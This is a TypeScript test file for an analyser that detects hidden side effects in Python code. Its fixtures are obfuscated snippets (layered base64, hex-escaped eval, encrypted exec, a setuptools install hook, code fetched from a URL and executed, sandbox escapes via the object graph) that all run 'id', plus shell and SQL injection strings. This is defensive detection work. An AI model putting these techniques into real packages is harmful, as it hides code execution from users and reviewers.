import assert from 'node:assert/strict';
import { test } from 'node:test';
import { analysis } from './effects.ts';

/** Programs as packers write them, around `os.system('id')`. */
const programs: readonly (readonly [name: string, source: string, effect: string])[] = [
  [
    'a lambda that inflates a reversed text',
    "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'Jjgb6BABXHFTPDV1NnkLs46KW/iym/CyRpyLI3CzLzJe'))",
    'import process os.system id',
  ],
  [
    'builtins by __import__',
    "__import__('builtins').exec(__import__('builtins').compile(__import__('base64').b64decode(b'aW1wb3J0IG9zCm9zLnN5c3RlbSgnaWQnKQ=='),'<string>','exec'))",
    'import process os.system id',
  ],
  [
    'pieces that eval puts together',
    "import base64, codecs\nmagic = 'aW1wb3J0I'\nlove = 'T9mPz9mYa'\ngod = 'N5c3RlbSg'\ndestiny = 'anJDaXD=='\njoy = '\\x72\\x6f\\x74\\x31\\x33'\ntrust = eval('\\x6d\\x61\\x67\\x69\\x63') + eval('\\x63\\x6f\\x64\\x65\\x63\\x73\\x2e\\x64\\x65\\x63\\x6f\\x64\\x65\\x28\\x6c\\x6f\\x76\\x65\\x2c\\x20\\x6a\\x6f\\x79\\x29') + eval('\\x67\\x6f\\x64') + eval('\\x63\\x6f\\x64\\x65\\x63\\x73\\x2e\\x64\\x65\\x63\\x6f\\x64\\x65\\x28\\x64\\x65\\x73\\x74\\x69\\x6e\\x79\\x2c\\x20\\x6a\\x6f\\x79\\x29')\neval(compile(base64.b64decode(eval('\\x74\\x72\\x75\\x73\\x74')),'<string>','exec'))",
    'import process os.system id',
  ],
  [
    'a text that only its key opens',
    "from cryptography.fernet import Fernet\nexec(Fernet(b'key=').decrypt(b'gAAAA'))",
    'import dynamic-code builtins.exec',
  ],
  [
    'a command of setup()',
    "from setuptools import setup\nfrom setuptools.command.install import install\nimport os\nclass CustomInstall(install):\n    def run(self):\n        install.run(self)\n        os.system('id')\nsetup(name='x', cmdclass={'install': CustomInstall})",
    'import process os.system id',
  ],
  [
    'a text from the network',
    "import requests\nexec(requests.get('http://a/x.py').text)",
    'import dynamic-code builtins.exec',
  ],
  [
    'character codes in a text',
    "exec(''.join(chr(int(x)) for x in '105,109,112,111,114,116,32,111,115,10,111,115,46,115,121,115,116,101,109,40,39,105,100,39,41'.split(',')))",
    'import process os.system id',
  ],
  [
    'the object graph',
    "().__class__.__bases__[0].__subclasses__()[132].__init__.__globals__['system']('id')",
    'import dynamic-code ?',
  ],
  [
    'the globals of a frame',
    "import sys\nsys._getframe().f_globals['__builtins__']['__import__']('os').system('id')",
    'import process os.system id',
  ],
  [
    'six layers of base64',
    "import base64\nexec(base64.b64decode('aW1wb3J0IGJhc2U2NApleGVjKGJhc2U2NC5iNjRkZWNvZGUoJ2FXMXdiM0owSUdKaGMyVTJOQXBsZUdWaktHSmhjMlUyTkM1aU5qUmtaV052WkdVb0oyRlhNWGRpTTBvd1NVZEthR015VlRKT1FYQnNaVWRXYWt0SFNtaGpNbFV5VGtNMWFVNXFVbXRhVjA1MldrZFZiMG95UmxoTldHUnBUVEJ2ZDFOVlpFdGhSMDE1VmxSS1QxRllRbk5hVldSWFlXdDBTRk50YUdwTmJGVjVWR3ROTVdGVk5YRlZiWFJoVmpBMU1sZHJaRlppTUc5NVVteG9UbGRIVW5CVVZFSjJaREZPVmxwRmRHaFNNREUxVm14U1MxUXhSbGxSYms1aFZsZFNXRmxYZERCVFJrNTBZVWR3VG1KR1ZqVldSM1JPVFZkR1ZrNVlSbFppV0ZKb1ZtcEJNVTFzWkhKYVJscHBUVWM1TlZWdGVHOVViR1JJVlc1Q1ZWWkZTakphUkVaUFZteHNObFp0ZUdoTlJGVjNWa1JHYjJReFVsaFRia3BQVWtWYVlWcFhjekZXUm14eVdrVjBWMUp0T1RWVWJHUnZWakF4VmxkcVJsWmxhMXBIVkRGYVExWkdhM3BSYTNoV1ZrUkJOVk51YkhKalEyTndTMUU5UFNjcEtRPT0nKSk='))",
    'import process os.system id',
  ],
  [
    'a thread',
    "import threading\ndef _x():\n    import os\n    os.system('id')\nthreading.Thread(target=_x, daemon=True).start()",
    'import process os.system id',
  ],
  [
    'a name drawn by lot',
    "import os, random\ngetattr(os, random.choice(['system']))('id')",
    'import dynamic-code ?',
  ],
  [
    'a table of functions in a class',
    "import os\nclass A:\n    t = {'a': os.system}\n    def go(self, k, v): return self.t[k](v)\nA().go('a', 'id')",
    'import process os.system id',
  ],
];

for (const [name, source, effect] of programs)
  test(`hidden behind ${name}`, () => {
    const found = analysis(source).effects.map(({ phase, capability, callable, argument }) =>
      [phase, capability, callable, argument].filter((part) => part !== undefined).join(' '),
    );
    assert.ok(
      found.some((one) => one.startsWith(effect)),
      found.join('\n'),
    );
  });

test('what was decoded is said to be, with its text', () => {
  const { effects } = analysis(
    `import base64\nexec(base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgiaWQiKQ=='))\n`,
  );
  assert.deepEqual(
    effects.map(({ where, callable, argument, traits }) => [
      where.line,
      callable,
      argument,
      [...traits].sort(),
    ]),
    [
      [2, 'builtins.exec', 'import os\nos.system("id")', ['constant', 'decoded']],
      [2, 'os.system', 'id', ['constant', 'decoded', 'shell']],
    ],
  );
});

test('a command for a shell is handed on, and so is a query', () => {
  const { embedded } = analysis(
    `import os, sqlite3\nn = input()\nos.system('''rm -r x\nls''')\nc = sqlite3.connect('a').cursor()\nc.execute("DELETE FROM t WHERE n = '%s'" % n)\ndef f(cursor): cursor.execute('DROP TABLE t')\n`,
  );
  assert.deepEqual(
    embedded.map(({ language, text, line, phase, holes, verbatim }) => ({
      language,
      text,
      line,
      phase,
      holes,
      verbatim,
    })),
    [
      { language: 'shell', text: 'rm -r x\nls', line: 3, phase: 'import', holes: false, verbatim: true },
      {
        language: 'sql',
        text: "DELETE FROM t WHERE n = '\uf8ff'",
        line: 6,
        phase: 'import',
        holes: true,
        verbatim: false,
      },
      { language: 'sql', text: 'DROP TABLE t', line: 7, phase: 'call', holes: false, verbatim: false },
    ],
  );
});

test('modelling code as it is usually written does nothing', () => {
  const source = `
import importlib.util
import math
import os.path as osp
from typing import Optional, Union
import torch
from torch import nn
from transformers.activations import ACT2FN
from transformers.modeling_utils import PreTrainedModel
from transformers.utils import logging
from .configuration_x import XConfig

logger = logging.get_logger(__name__)
_HAS_FLASH = importlib.util.find_spec("flash_attn") is not None
if _HAS_FLASH:
    from flash_attn import flash_attn_func
REGISTRY = {}

def register(name):
    def wrap(cls):
        REGISTRY[name] = cls
        return cls
    return wrap

def _compute_default(x: Optional[torch.Tensor] = None) -> torch.Tensor:
    return x * math.sqrt(2.0)

@register("mlp")
class XMLP(nn.Module):
    def __init__(self, config):
        super().__init__()
        self.fc = nn.Linear(config.hidden_size, config.intermediate_size)
        self.act = ACT2FN[config.hidden_act]
        for name in ("q", "k", "v"):
            setattr(self, f"{name}_proj", nn.Linear(config.hidden_size, config.hidden_size))

    def forward(self, x):
        q = getattr(self, "q_proj")(x)
        return self.act(self.fc(x)) + q

class XModel(PreTrainedModel):
    config_class = XConfig
    base_model_prefix = "x"

    def __init__(self, config: XConfig):
        super().__init__(config)
        cls = REGISTRY[config.mlp_type]
        self.layers = nn.ModuleList([cls(config) for _ in range(config.num_hidden_layers)])
        self.dtype_ = getattr(torch, config.dtype)
        self.post_init()

    def _init_weights(self, module):
        if isinstance(module, nn.Linear):
            module.weight.data.normal_(mean=0.0, std=self.config.initializer_range)

    def forward(self, input_ids=None, **kwargs):
        logger.warning_once("slow path")
        hidden = self.embed(input_ids)
        for layer in self.layers:
            hidden = layer(hidden)
        return _compute_default(hidden).eval()
`;
  const { effects, hazards, embedded, complete } = analysis(source);
  assert.deepEqual(
    { effects, hazards, embedded, complete },
    { effects: [], hazards: [], embedded: [], complete: true },
  );
});
